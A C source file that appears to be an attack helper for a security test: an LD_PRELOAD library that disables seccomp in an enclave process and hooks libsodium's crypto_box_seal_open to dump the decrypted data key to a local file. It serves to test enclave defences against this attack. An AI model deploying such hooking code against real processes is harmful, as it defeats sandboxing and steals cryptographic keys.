/*
 * preload_key.c - the attacker's library for test_enclave_attack.c
 * (issue 8, item 3): a worker host that controls how its enclave is
 * started sets LD_PRELOAD to this. When it gets loaded into an enclave
 * process it
 *
 *   - says so ("PRELOADED pid") in the file named by SS_ATTACK_OUT;
 *   - turns seccomp off (seccomp_load does nothing);
 *   - wraps libsodium's crypto_box_seal_open, the call that opens the data
 *     key sent by the key service, and writes what it opened there
 *     ("KEY <hex>").
 *
 * Against a dynamically linked enclave measured only by its executable
 * this printed the data key. The static sstream-enclave has no dynamic
 * loader: LD_PRELOAD does nothing to it; a dynamic program started in its
 * place measures differently and gets no key.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void note(const char *line)
{
    const char *path = getenv("SS_ATTACK_OUT");
    if (!path)
        path = "/tmp/ss-attack-out";
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);
    if (fd < 0)
        return;
    ssize_t w = write(fd, line, strlen(line));
    (void)w;
    close(fd);
}

__attribute__((constructor)) static void preloaded(void)
{
    char line[64];
    snprintf(line, sizeof line, "PRELOADED %d\n", (int)getpid());
    note(line);
}

int seccomp_load(void *ctx)
{
    (void)ctx;
    note("SECCOMP OFF\n");
    return 0;
}

int crypto_box_seal_open(unsigned char *m, const unsigned char *c,
                         unsigned long long clen, const unsigned char *pk,
                         const unsigned char *sk)
{
    int (*real)(unsigned char *, const unsigned char *, unsigned long long,
                const unsigned char *, const unsigned char *) =
        (int (*)(unsigned char *, const unsigned char *, unsigned long long,
                 const unsigned char *, const unsigned char *))
            dlsym(RTLD_NEXT, "crypto_box_seal_open");
    if (!real)
        return -1;
    int rc = real(m, c, clen, pk, sk);
    if (rc == 0 && clen > 48) {
        char line[512] = "KEY ";
        size_t n = clen - 48, off = 4;
        for (size_t i = 0; i < n && off + 3 < sizeof line; i++)
            off += (size_t)snprintf(line + off, sizeof line - off, "%02x",
                                    m[i]);
        snprintf(line + off, sizeof line - off, "\n");
        note(line);
    }
    return rc;
}
